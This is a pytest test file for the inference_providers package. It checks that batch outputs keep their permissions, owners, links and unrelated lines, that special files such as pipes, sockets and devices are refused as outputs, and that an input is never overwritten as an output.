"""Files of users: what they were stays, what is somebody else's stays, and what is no file is refused at once."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inference_providers import AsyncProviderList, NoCredentialsError, ProviderList, RegistryError
from inference_providers.batches.files import Output, Results
from inference_providers.batches.formulas import is_formula
from inference_providers.batches.items import Reader
from inference_providers.batches.lines import is_cut, row_of
from inference_providers.batches.sources import Source
from inference_providers.files import opening, replacing
from inference_providers.servers import model_lists
from inference_providers.servers.model_files import at, find_all
from inference_providers.testing.cassette import RECORD, REPLAY, Cassette, CassetteError
from inference_providers.upkeep.updater import Updater
from tests.conftest import ROOT
from tests.servers import PATIENCE

POSIX = pytest.mark.skipif(os.name != "posix", reason="pipes, owners and links of POSIX")
ROOT_ONLY = pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="only root gives files away")
pytestmark = POSIX


@pytest.fixture(autouse=True)
def no_waiting() -> Iterator[None]:
    """Whoever waits for the other end of a pipe is ended: the test fails and does not hang."""

    def late(number: int, frame: Any) -> None:
        raise AssertionError("it hangs")

    before = signal.signal(signal.SIGALRM, late)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.fixture
def warned(caplog: pytest.LogCaptureFixture) -> Callable[[str], list[str]]:
    """The warnings with a word in them."""
    return lambda word: [r.getMessage() for r in caplog.records if r.levelname == "WARNING" and word in r.getMessage()]


def asked(questions: Any, out: Any = None, **options: Any) -> Any:
    """A batch whose answers repeat the questions; `made.requests` are the questions."""
    requests: list[str] = []

    def reply(messages: list[dict[str, Any]]) -> str:
        requests.append(messages[-1]["content"])
        return f"re: {messages[-1]['content']}"

    made = ProviderList(mock={"m": options.pop("reply", reply)}, local=False).batch(
        questions, "m", out=out, **{"progress": False, **options}
    )
    made.requests = requests
    return made


def texts(results: Any) -> list[str | None]:
    return [str(result.answer) if result.ok else None for result in results]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def names(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}


# Replaced whole


def cut(out: Path) -> list[str]:
    out.write_bytes(out.read_bytes()[:-20])
    return ["a", "b"]


def other_order(out: Path) -> list[str]:
    return ["b", "a"]


@pytest.mark.parametrize("change", [cut, other_order])
@pytest.mark.parametrize("bits", [0o600, 0o640, 0o604, 0o666])
def test_an_output_that_is_written_anew_keeps_its_mode(tmp_path: Path, bits: int, change: Any) -> None:
    out = tmp_path / "out.jsonl"
    asked(["a", "b"], out)
    number = out.stat().st_ino
    out.chmod(bits)
    questions = change(out)
    assert texts(asked(questions, out)) == [f"re: {question}" for question in questions]
    assert (mode(out), names(tmp_path)) == (bits, {"out.jsonl"})
    assert out.stat().st_ino != number  # it was written anew


@pytest.fixture
def open_to_all() -> Iterator[Path]:
    """A folder into which every user may write: those of tests are below one that is private."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o777)
        yield Path(folder)


@ROOT_ONLY
def test_an_output_keeps_its_owner_and_group(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    asked(["a", "b"], out)
    os.chown(out, 12345, 23456)
    out.chmod(0o640)
    asked(["b", "a"], out)
    assert (out.stat().st_uid, out.stat().st_gid, mode(out)) == (12345, 23456, 0o640)


AS_OTHERS = """
import os, sys
from inference_providers.files import replacing  # before rights are given up
os.setgroups([int(sys.argv[3])] if sys.argv[3] else [])
os.setegid(4321); os.seteuid(1234)
with replacing(sys.argv[1]) as file:
    assert os.fstat(file.fileno()).st_mode & 0o077 == 0
    file.write(sys.argv[2].encode())
"""


@ROOT_ONLY
@pytest.mark.parametrize(
    ("bits", "member", "left", "group"),
    [
        (0o666, "", 0o666, 4321),
        (0o662, "", 0o622, 4321),  # the old group read it, the new one did not, and nor did others
        (0o646, "", 0o644, 4321),  # the old group did not write it, and would be of the others now
        (0o606, "", 0o600, 4321),
        (0o662, "5555", 0o662, 5555),  # who is of the group may leave it the group
    ],
)
def test_who_may_not_keep_the_owner_lets_nobody_new_in(
    open_to_all: Path, bits: int, member: str, left: int, group: int
) -> None:
    out = open_to_all / "out"
    out.write_text("old")
    os.chown(out, 0, 5555)
    out.chmod(bits)
    subprocess.run([sys.executable, "-c", AS_OTHERS, str(out), "new", member], check=True, cwd=ROOT, timeout=60)
    assert (out.read_text(), mode(out)) == ("new", left)
    assert (out.stat().st_uid, out.stat().st_gid) == (1234, group)


WITHOUT_LEAVE = """
import os, sys
from inference_providers.files import replacing  # before rights are given up
if os.getuid() == 0:
    os.seteuid(1234)
with replacing(sys.argv[1]) as file:
    pass
"""


def test_who_may_not_write_a_file_does_not_replace_it(open_to_all: Path) -> None:
    kept = open_to_all / "kept"
    kept.write_text("old")
    kept.chmod(0o444)
    command = [sys.executable, "-c", WITHOUT_LEAVE, str(kept)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=60)
    assert "PermissionError" in done.stderr
    assert (kept.read_text(), names(open_to_all)) == ("old", {"kept"})


@pytest.mark.parametrize("bits", [0o600, 0o644])
def test_while_it_is_written_nobody_else_may_read_it(tmp_path: Path, bits: int) -> None:
    path = tmp_path / "file"
    path.write_text("old")
    path.chmod(bits)
    with replacing(path) as file:
        assert (mode(Path(file.name)), Path(file.name).parent) == (0o600, tmp_path)
        file.write(b"new")
    assert (path.read_text(), mode(path), names(tmp_path)) == ("new", bits, {"file"})


@pytest.mark.parametrize(("umask", "bits"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_new_files_have_the_mode_of_the_umask(tmp_path: Path, umask: int, bits: int) -> None:
    before = os.umask(umask)
    try:
        asked(["a"], tmp_path / "out.jsonl")
        asked(["a"], tmp_path / "out.csv")
        with replacing(tmp_path / "other", text=True) as file:
            file.write("x")
    finally:
        os.umask(before)
    assert {path.name: mode(path) for path in tmp_path.iterdir()} == dict.fromkeys(
        ("out.jsonl", "out.csv", "out.csv.jsonl", "other"), bits
    )


@pytest.mark.parametrize("out", ["out.jsonl", "out.csv"])
def test_a_folder_without_leave_is_told_before_anything_is_asked(open_to_all: Path, out: str) -> None:
    for name in (out, "out.csv.jsonl"):
        (open_to_all / name).touch()
        (open_to_all / name).chmod(0o666)
    open_to_all.chmod(0o555)
    program = (
        "import os, sys\nfrom inference_providers.batches.items import Reader\n"
        "from inference_providers.batches.places import Places, check\n"
        "from inference_providers.batches.sources import Source\n"
        "source = Source([], Reader(None, None, {}, {}))\nif not os.getuid(): os.seteuid(1234)\n"
        "check(source, Places(sys.argv[1])); print('direct')\ncheck(source, Places(sys.argv[1], has_jobs=True))"
    )
    command = [sys.executable, "-c", program, str(open_to_all / out)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=60)
    assert done.stdout == ("" if out == "out.csv" else "direct\n")  # lines may be added without it
    assert "no file can be created in its folder" in done.stderr


def test_what_is_made_beside_a_private_file_is_private_too(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.touch(0o600)
    asked(["a"], out)
    assert (mode(out), mode(tmp_path / "out.csv.jsonl")) == (0o600, 0o600)
    out.unlink()
    asked(["a"], out)
    assert mode(out) == 0o600


def access_list(*entries: tuple[int, int, int]) -> bytes:
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)


NOBODY = 0xFFFFFFFF
BOB = access_list((1, 6, NOBODY), (2, 6, 1234), (4, 0, NOBODY), (0x10, 6, NOBODY), (0x20, 0, NOBODY))


@pytest.mark.skipif(not hasattr(os, "setxattr"), reason="access lists of Linux")
@pytest.mark.parametrize("inherited", [False, True])
def test_an_access_list_stays_and_none_is_inherited(tmp_path: Path, inherited: bool) -> None:
    path = tmp_path / "file"
    path.write_text("old")
    path.chmod(0o640)
    try:
        if inherited:
            os.setxattr(tmp_path, "system.posix_acl_default", BOB)
        else:
            os.setxattr(path, "system.posix_acl_access", BOB)
    except OSError:
        pytest.skip("no access lists on this file system")
    before = mode(path)
    with replacing(path) as file:
        file.write(b"new")
    assert mode(path) == before
    if inherited:
        with pytest.raises(OSError, match="No data"):
            os.getxattr(path, "system.posix_acl_access")
    else:
        assert os.getxattr(path, "system.posix_acl_access") == BOB


@pytest.mark.parametrize("change", [cut, other_order])
def test_a_link_stays_and_its_target_is_written_anew(tmp_path: Path, change: Any) -> None:
    (tmp_path / "data").mkdir()
    target, middle, link = tmp_path / "data" / "real.jsonl", tmp_path / "middle.jsonl", tmp_path / "link.jsonl"
    middle.symlink_to("data/real.jsonl")
    link.symlink_to(middle)
    asked(["a", "b"], link)
    target.chmod(0o600)
    questions = change(target)
    assert texts(asked(questions, link)) == [f"re: {question}" for question in questions]
    assert link.is_symlink() and middle.is_symlink() and not target.is_symlink()
    assert texts(Results(target)) == [f"re: {question}" for question in questions]
    assert (mode(target), names(tmp_path / "data")) == (0o600, {"real.jsonl"})
    assert names(tmp_path) == {"data", "middle.jsonl", "link.jsonl"}


def test_a_link_to_a_table_stays(tmp_path: Path) -> None:
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    for questions in (["a"], ["b"]):
        asked(questions, tmp_path / "link.csv")
        assert (tmp_path / "link.csv").is_symlink()
        assert f"re: {questions[0]}" in (tmp_path / "real.csv").read_text()


def test_another_name_of_an_output_keeps_what_it_held_and_that_is_said(tmp_path: Path, warned: Any) -> None:
    out, other = tmp_path / "out.jsonl", tmp_path / "other.jsonl"
    asked(["a", "b"], out)
    other.hardlink_to(out)
    before = other.read_bytes()
    asked(["b", "a"], out)
    assert other.read_bytes() == before
    assert len(warned("hard links")) == 1


def test_a_failure_leaves_the_old_file_and_nothing_beside_it(tmp_path: Path) -> None:
    path = tmp_path / ("x" * 250)
    path.write_text("old")
    for kind in (OSError, KeyboardInterrupt):
        with pytest.raises(kind), replacing(path) as file:
            file.write(b"new")
            raise kind
    assert (path.read_text(), names(tmp_path)) == ("old", {path.name})


# With -B: a module that was compiled under such a limit would be cut short on disk, and stay so.
LIMITED = """
import resource, sys
from pathlib import Path
from inference_providers import ProviderList
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[3]),) * 2)
ProviderList(mock={"m": "x"}, local=False).batch(Path(sys.argv[1]), "m", out=sys.argv[2])
"""


def test_a_disk_that_is_full_when_a_table_is_written_leaves_nothing_beside_it(tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text("prompt,note\na," + "n" * 100_000 + "\n")
    out = tmp_path / "out.csv"
    arguments = [sys.executable, "-B", "-c", LIMITED, str(tmp_path / "in.csv"), str(out), "20000"]
    done = subprocess.run(arguments, cwd=ROOT, capture_output=True, text=True, check=False, timeout=60)
    assert (done.returncode, "OSError" in done.stderr) == (1, True)
    assert names(tmp_path) == {"in.csv", "out.csv.jsonl"}
    again = asked(tmp_path / "in.csv", out, reply="x")
    assert (again.summary.resumed, names(tmp_path)) == (1, {"in.csv", "out.csv.jsonl", "out.csv"})


def test_a_disk_that_is_full_leaves_whole_lines_only(tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text("".join(f'"{number}"\n' for number in range(300)))
    out = tmp_path / "out.jsonl"
    arguments = [sys.executable, "-B", "-c", LIMITED, str(tmp_path / "in.jsonl"), str(out), "5000"]
    done = subprocess.run(arguments, cwd=ROOT, capture_output=True, text=True, check=False, timeout=60)
    assert (done.returncode, "OSError" in done.stderr) == (1, True)
    lines = out.read_bytes().splitlines(keepends=True)
    assert lines and all(row_of(line) for line in lines) and lines[-1].endswith(b"\n")
    assert asked(tmp_path / "in.jsonl", out, reply="x").summary.resumed == len(lines)


KILLED = """
import os, sys
from inference_providers import files
with files.replacing(sys.argv[1]) as file:
    file.write(b"new"); file.flush()
    print(file.name, flush=True)
    sys.stdin.read()
"""


def test_what_a_killed_program_left_goes_and_what_another_writes_stays(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_text("old")
    made = [
        subprocess.Popen(
            [sys.executable, "-c", KILLED, str(path)], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )
        for _ in range(2)
    ]
    beside = [Path(process.stdout.readline().decode().strip()) for process in made if process.stdout]
    made[0].kill()
    made[0].communicate()
    assert beside[0].exists()
    (tmp_path / ".file.note.tmp").write_text("mine")
    with replacing(path) as file:
        file.write(b"newer")
    assert names(tmp_path) == {"file", ".file.note.tmp", beside[1].name}
    made[1].communicate(b"")
    assert (path.read_text(), names(tmp_path)) == ("new", {"file", ".file.note.tmp"})


# Lines of somebody else's

FOREIGN = [
    b"# a note\n",
    b'{"my": "row", "key": "0123456789abcdef"}\n',
    b'{"id": "deadbeef", "text": "x"}\n',
    b'{"index": 3, "id": "00ff", "label": "cat"}\n',
    b'{"index": 3, "text": "x", "key": "ab", "error": null}\n',
    b'{"index": 0, "answer": "x", "key": "0123456789abcdef", "error": null}\n',
    b'{"id": "batch_req_0123456789abcdef", "custom_id": "x", "response": {"status_code": 200, "request_id": "r", '
    b'"body": {}}, "error": null}\n',
    b'{"index": 1, "error": {"type": "E", "message": "mine"}}\n',
    b'{"index": 1, "question": "not whole',
    b"[1, 2]\n",
    b"5\n",
    b"null\n",
    b"\xff\xfe\n",
    b"[" * 100_000 + b"\n",
]


@pytest.mark.parametrize("line", FOREIGN)
def test_a_line_of_somebody_elses_is_no_result(tmp_path: Path, line: bytes, warned: Any) -> None:
    assert row_of(line) is None
    assert not is_cut(line)
    out = tmp_path / "out.jsonl"
    out.write_bytes(line)
    with pytest.raises(ValueError, match="something other"):
        asked(["a"], out)
    assert out.read_bytes() == line
    asked(["a"], tmp_path / "made.jsonl")
    ours = (tmp_path / "made.jsonl").read_bytes()
    whole = line if line.endswith(b"\n") else line + b"\n"
    for content in (whole + ours, ours + line, ours + whole + ours[:50]):
        out.write_bytes(content)
        made = asked(["b", "a"], out)
        assert texts(made) == ["re: b", "re: a"]
        assert made.requests == ["b"]
        assert out.read_bytes().count(whole) == 1
    assert len(warned("1 line that no batch wrote")) == 3


def test_they_stay_where_they_are_whatever_becomes_of_the_file(tmp_path: Path, warned: Any) -> None:
    out = tmp_path / "out.jsonl"
    asked(["a", "b"], out)
    first, second = out.read_bytes().splitlines(keepends=True)
    failed = json.dumps({**json.loads(first), "answer": None, "error": {"type": "E", "message": "m"}}).encode() + b"\n"
    out.write_bytes(b"# top\n" + first + b"\n# middle\n" + failed + second + b"# end\n" + second[:40])
    assert texts(asked(["b", "x", "a"], out)) == ["re: b", "re: x", "re: a"]
    kept = [line for line in out.read_bytes().splitlines(keepends=True) if row_of(line) is None]
    assert kept == [b"# top\n", b"\n", b"# middle\n", b"# end\n"]
    order = [json.loads(line)["answer"] if row_of(line) else line for line in out.read_bytes().splitlines()]
    assert order == [b"# top", "re: a", b"", b"# middle", "re: b", b"# end", "re: x"]
    assert len(warned("3 lines that no batch wrote")) == 1


@settings(max_examples=25)
@given(places=st.lists(st.integers(0, 6), max_size=6), order=st.permutations(["a", "b", "c", "d"]))
def test_wherever_they_stand_results_are_what_they_were(places: list[int], order: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "out.jsonl"
        asked(["a", "b", "c"], out)
        lines = out.read_bytes().splitlines(keepends=True)
        for number, place in enumerate(places):
            lines.insert(place, f"note {number}\n".encode())
        out.write_bytes(b"".join(lines))
        made = asked(order, out)
        assert texts(made) == [f"re: {question}" for question in order]
        assert made.requests == ["d"]
        before = [line for line in lines if line.startswith(b"note")]
        assert [line for line in out.read_bytes().splitlines(keepends=True) if line.startswith(b"note")] == before


def test_a_whole_line_without_its_end_counts(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    asked(["a", "b"], out)
    out.write_bytes(out.read_bytes()[:-1])
    made = asked(["a", "b", "c"], out)
    assert (made.requests, texts(made)) == (["c"], ["re: a", "re: b", "re: c"])


def test_to_begin_anew_says_what_goes(tmp_path: Path, warned: Any) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text("my novel\nits second line\n")
    assert texts(asked(["a"], out, resume=False)) == ["re: a"]
    assert len(warned("2 lines that no batch wrote")) == 1


@pytest.mark.parametrize("options", [{}, {"mode": "provider", "schema": {"type": "object"}}])
def test_nothing_is_emptied_before_there_is_something_to_write(tmp_path: Path, options: dict[str, Any]) -> None:
    out = tmp_path / "out.jsonl"
    asked(["a"], out)
    before = out.read_bytes()
    (tmp_path / "out.jsonl.jobs.json").write_text('{"j": {"provider": "p", "items": ["i"]}}')
    with pytest.raises((NoCredentialsError, ValueError)):
        ProviderList(environ={}, local=False).batch(["a"], out=out, resume=False, progress=False, **options)
    assert out.read_bytes() == before
    assert '"j"' in (tmp_path / "out.jsonl.jobs.json").read_text()


def test_what_lies_where_a_tables_lines_would_go_is_not_taken_for_it(tmp_path: Path) -> None:
    (tmp_path / "out.csv.jsonl").write_text('{"my": "data"}\n')
    for resume in (True, False):
        with pytest.raises(ValueError, match="holds something"):
            asked(["a"], tmp_path / "out.csv", resume=resume)
    assert (tmp_path / "out.csv.jsonl").read_text() == '{"my": "data"}\n'


# No regular files


@contextmanager
def special(folder: Path, kind: str) -> Iterator[Path]:
    path = folder / f"it.{kind}"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "link to a fifo":
        os.mkfifo(folder / "pipe")
        path.symlink_to(folder / "pipe")
    elif kind == "folder":
        path.mkdir()
    elif kind == "socket":
        before = Path.cwd()
        os.chdir(folder)  # its address may have 108 bytes
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(path.name)
        finally:
            os.chdir(before)
    else:
        path = Path(kind)
    yield path


KINDS = ["fifo", "link to a fifo", "folder", "socket", "/dev/full", "/dev/zero", "/dev/null", "/dev/tty"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("resume", [True, False])
def test_an_output_that_is_no_regular_file_is_refused_at_once(tmp_path: Path, kind: str, resume: bool) -> None:
    def questions() -> Iterator[str]:
        raise AssertionError("asked")
        yield ""

    with special(tmp_path, kind) as path:
        before = os.lstat(path).st_mode
        with pytest.raises(OSError, match=r"regular file|Is a directory"):
            asked(questions(), path, resume=resume)
        with pytest.raises(OSError, match=r"regular file|Is a directory"):
            asyncio.run(_awaited(questions(), path))
        assert os.lstat(path).st_mode == before


async def _awaited(questions: Any, out: Path) -> Any:
    return await AsyncProviderList(mock={"m": "x"}, local=False).batch(questions, "m", out=out, progress=False)


@pytest.mark.parametrize("beside", ["out.csv", "out.csv.jsonl", "out.csv.jsonl.jobs.json"])
@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_nor_may_the_files_beside_it_be_anything_else(tmp_path: Path, beside: str, make: Any) -> None:
    make(tmp_path / beside)
    with pytest.raises(OSError, match=r"regular file|Is a directory"):
        asked(["a"], tmp_path / "out.csv")
    assert names(tmp_path) == {beside}


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_else_that_is_read_may_be_a_special_file(tmp_path: Path, kind: str, monkeypatch: Any) -> None:
    with special(tmp_path, kind) as path:
        for name in ("json_override", "json_merge"):
            with pytest.raises(RegistryError, match=r"regular file|directory"):
                ProviderList(**{name: path}, environ={}, local=False)
        with pytest.raises(RegistryError, match=r"regular file|directory"):
            model_lists.load(path, environ={})
        with pytest.raises(ValueError, match=r"regular file|directory"):
            ProviderList(mock={"m": "x"}, local=False).ask_ai("what is it?", "m", images=[path])
        with pytest.raises(ValueError, match=r"regular file|not a model"):
            at(str(path))
        for how in (RECORD, REPLAY):
            with pytest.raises(CassetteError, match=r"regular file|directory"):
                Cassette(path, how)
        with pytest.raises(OSError, match=r"regular file|directory"):
            list(Results(path))
        with pytest.raises(OSError, match=r"regular file|directory"):
            Output(path)


def test_a_registry_cache_of_pipes_is_no_cache(tmp_path: Path) -> None:
    for name in ("registry.json", "registry-state.json"):
        os.mkfifo(tmp_path / name)
    assert Updater({}, url="https://127.0.0.1:9/registry.json", folder=str(tmp_path)).cached() is None


def test_models_that_are_pipes_are_not_found(tmp_path: Path) -> None:
    home = {"HOME": str(tmp_path), "LLAMA_CACHE": str(tmp_path), "HF_HUB_CACHE": str(tmp_path / "hub")}
    snapshot = tmp_path / "hub" / "models--a--b" / "snapshots" / "1"
    snapshot.mkdir(parents=True)
    os.mkfifo(tmp_path / "model.gguf")
    os.mkfifo(snapshot / "config.json")
    (snapshot / "model.safetensors").write_bytes(b"x")
    manifest = tmp_path / ".ollama" / "models" / "manifests" / "registry.ollama.ai" / "library" / "m"
    manifest.mkdir(parents=True)
    os.mkfifo(manifest / "latest")
    assert [(model.name, model.memory(10) > 0) for model in find_all(home)] == [("a/b", True)]
    with pytest.raises(ValueError, match="config"):
        at(str(snapshot))


def test_what_is_read_whole_may_not_be_endless(tmp_path: Path) -> None:
    large = tmp_path / "large.json"
    with large.open("wb") as file:
        file.truncate(opening.CAP + 1)
    for read in (
        partial(model_lists.load, environ={}),
        lambda path: ProviderList(json_merge=path, environ={}, local=False),
    ):
        with pytest.raises(RegistryError, match=r"larger than (16 M|256 K)iB"):
            read(large)


# A pipe as input


@contextmanager
def writing(pipe: Path, *chunks: bytes) -> Iterator[None]:
    """Somebody who writes into a pipe, one piece after another."""

    def write() -> None:
        with pipe.open("wb", buffering=0) as file:
            for chunk in chunks:
                file.write(chunk)

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    yield
    thread.join(PATIENCE)
    assert not thread.is_alive()


def given_by(pipe: Path, kind: str, out: Path | None, **options: Any) -> list[str | None]:
    if kind == "sync":
        return texts(asked(pipe, out, **options))

    async def work() -> list[str | None]:
        made = AsyncProviderList(mock={"m": lambda m: f"re: {m[-1]['content']}"}, local=False)
        return texts([result async for result in made.batch(pipe, "m", out=out, **options)])

    return asyncio.run(work())


@pytest.mark.parametrize("kind", ["sync", "async"])
@pytest.mark.parametrize("with_file", [True, False])
@pytest.mark.parametrize("progress", [True, False])
def test_a_pipe_may_be_the_input(tmp_path: Path, kind: str, with_file: bool, progress: bool) -> None:
    pipe, out = tmp_path / "pipe", tmp_path / "out.jsonl" if with_file else None
    os.mkfifo(pipe)
    assert Source(pipe, Reader(None, None, {}, {})).count() is None
    long = "x" * 200_000
    with writing(pipe, b'"a"\n\n{"pro', b'mpt": "b"}\n"', long.encode(), b'"\n"last"'):
        found = given_by(pipe, kind, out, progress=progress)
    assert found == ["re: a", "re: b", f"re: {long}", "re: last"]


def test_who_waits_for_a_pipe_says_so(tmp_path: Path, warned: Any) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    said = threading.Event()

    def write() -> None:
        while not warned("waiting for"):
            said.wait(0.02)
        pipe.write_text('"a"\n')

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    assert texts(asked(pipe)) == ["re: a"]
    thread.join()
    assert len(warned("waiting for")) == 1


def test_answers_come_while_a_pipe_is_silent(tmp_path: Path) -> None:
    """The next line is written when the first answer has come."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    answered = threading.Event()

    def write() -> None:
        with pipe.open("wb", buffering=0) as file:
            file.write(b'"a"\n')
            assert answered.wait(PATIENCE)
            file.write(b'"b"\n')

    threading.Thread(target=write, daemon=True).start()
    results = iter(asked(pipe))
    assert texts([next(results)]) == ["re: a"]
    answered.set()
    assert texts(results) == ["re: b"]


def test_an_interrupt_ends_the_waiting_for_a_pipe(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    command = [sys.executable, "-m", "inference_providers", "batch", str(tmp_path / "pipe"), "-o", str(tmp_path / "o")]
    process = subprocess.Popen(
        [*command, "-m", "gpt-4o"],
        cwd=ROOT,
        stderr=subprocess.PIPE,
        env={**os.environ, "OPENAI_API_KEY": "k", "OPENAI_BASE_URL": "http://127.0.0.1:9"},
    )
    assert process.stderr is not None
    assert b"waiting for" in process.stderr.readline()
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=PATIENCE)
    assert process.returncode == 130


def test_a_table_in_a_pipe_is_refused_since_it_is_read_twice(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "in.csv")
    with pytest.raises(ValueError, match="regular file"):
        asked(tmp_path / "in.csv", tmp_path / "out.csv")


@pytest.mark.parametrize("kind", ["socket", "/dev/zero", "/dev/full", "/dev/null"])
def test_questions_come_from_no_device(tmp_path: Path, kind: str) -> None:
    with special(tmp_path, kind) as path, pytest.raises(ValueError, match="regular file or a pipe"):
        asked(path, tmp_path / "out.jsonl")
    assert not (tmp_path / "out.jsonl").exists()


def shell(command: str, folder: Path) -> subprocess.CompletedProcess[str]:
    program = f"{sys.executable} -W error -m inference_providers batch -m gpt-4o"
    return subprocess.run(
        ["/bin/bash", "-c", command.replace("BATCH", program)],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(ROOT), "OPENAI_API_KEY": "k", "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"},
    )


def test_the_command_line_takes_what_a_command_writes(tmp_path: Path) -> None:
    done = shell("""BATCH <(printf '"a"\\n"b"\\n') -o out.jsonl""", tmp_path)
    assert "2 failed" in done.stderr  # nobody is there to answer
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 2


@pytest.mark.parametrize("output", ["/dev/stdout", ">(cat)", "/dev/full", "/dev/null"])
def test_the_command_line_writes_to_regular_files_only(tmp_path: Path, output: str) -> None:
    (tmp_path / "in.jsonl").write_text('"a"\n')
    done = shell(f"BATCH in.jsonl -o {output} | cat; exit ${{PIPESTATUS[0]}}", tmp_path)
    assert done.returncode == 1
    assert "it must be a regular file" in done.stderr
    assert "Traceback" not in done.stderr


# Inputs are never outputs


def linked(how: str, path: Path, target: Path) -> Path:
    if how == "symlink":
        path.symlink_to(target)
    elif how == "hard link":
        path.hardlink_to(target)
    return path


@pytest.mark.parametrize("how", ["itself", "symlink", "hard link"])
@pytest.mark.parametrize("resume", [True, False])
@pytest.mark.parametrize(
    ("out", "taken"),
    [
        ("out.jsonl", "out.jsonl"),
        ("out.jsonl", "out.jsonl.jobs.json"),
        ("out.csv", "out.csv"),
        ("out.csv", "out.csv.jsonl"),
        ("out.csv", "out.csv.jsonl.jobs.json"),
        ("sub/../out.csv", "out.csv.jsonl"),
    ],
)
def test_the_input_is_never_an_output_by_any_name(tmp_path: Path, how: str, out: str, taken: str, resume: bool) -> None:
    (tmp_path / "sub").mkdir()
    source = tmp_path / (taken if how == "itself" else "in.jsonl")
    source.write_text('"a"\n"b"\n')
    linked(how, tmp_path / taken, source)
    before = names(tmp_path)
    opened = source.open()
    for given_as in (source, opened):
        with pytest.raises(ValueError, match="is the input"):
            asked(given_as, tmp_path / out, resume=resume)
        with pytest.raises(ValueError, match="is the input"):
            AsyncProviderList(mock={"m": "x"}, local=False).batch(given_as, "m", out=tmp_path / out, resume=resume)
    opened.close()
    if how == "symlink":
        done = shell(f"BATCH {source.name} -o {out} {'' if resume else '--no-resume'}", tmp_path)
        assert (done.returncode, "is the input" in done.stderr) == (2, True)
    assert (source.read_text(), names(tmp_path)) == ('"a"\n"b"\n', before)


def test_the_files_of_one_output_are_never_one_file(tmp_path: Path) -> None:
    (tmp_path / "out.csv").touch()
    (tmp_path / "out.csv.jsonl").symlink_to("out.csv")
    with pytest.raises(ValueError, match="the same file"):
        asked(["a"], tmp_path / "out.csv")


def test_a_registry_is_not_built_over_its_source_nor_into_a_device(tmp_path: Path) -> None:
    (tmp_path / "source.json").write_text("{}")
    (tmp_path / "link.json").symlink_to("source.json")
    for output, said in (("link.json", "is an input"), ("/dev/null", "regular file")):
        command = ["-m", "inference_providers", "registry", "build", "--from", "source.json", "-o", output]
        done = subprocess.run(
            [sys.executable, *command], cwd=tmp_path, capture_output=True, text=True, check=False, timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
        assert (done.returncode != 0, said in done.stderr) == (True, True), done.stderr
    assert (tmp_path / "source.json").read_text() == "{}"
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.parametrize(("output", "origins"), [("a.json", "a.json"), ("a.json", "./a.json"), (None, "-"), ("-", "-")])
def test_a_registry_and_its_origins_are_never_one_output(tmp_path: Path, output: str | None, origins: str) -> None:
    (tmp_path / "source.json").write_text("{}")
    command = ["-m", "inference_providers", "registry", "build", "--from", "source.json", "--origins", origins]
    done = subprocess.run(
        [sys.executable, *command, *(["-o", output] if output else [])], cwd=tmp_path, capture_output=True, text=True,
        check=False, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert (done.returncode, "needs another file" in done.stderr) == (2, True), done.stderr
    assert names(tmp_path) == {"source.json"}


# Other files that this package writes


def test_a_recording_takes_no_other_files_place_and_keeps_mode_and_link(tmp_path: Path) -> None:
    notes, tape = tmp_path / "notes.json", tmp_path / "tape.json"
    notes.write_text('{"my": "notes"}')
    with pytest.raises(CassetteError, match="would be overwritten"):
        Cassette(notes, RECORD)
    tape.touch(0o600)
    (tmp_path / "link.json").symlink_to(tape)
    for _ in range(2):
        Cassette(tmp_path / "link.json", RECORD)._write()
        Cassette(tape, REPLAY)
    assert (mode(tape), (tmp_path / "link.json").is_symlink()) == (0o600, True)


def test_pages_of_a_roll_call_keep_their_mode_and_are_files(tmp_path: Path) -> None:
    from inference_providers.cli.roll_call import _check_writable, _write

    page = tmp_path / "page.md"
    page.touch(0o600)
    _check_writable(str(tmp_path / "page"))
    assert names(tmp_path) == {"page.md"}
    _write(str(tmp_path / "page"), [], ["q"], 0.0, "made by hand")
    assert (mode(page), page.read_text() != "", names(tmp_path)) == (0o600, True, {"page.md", "page.html"})
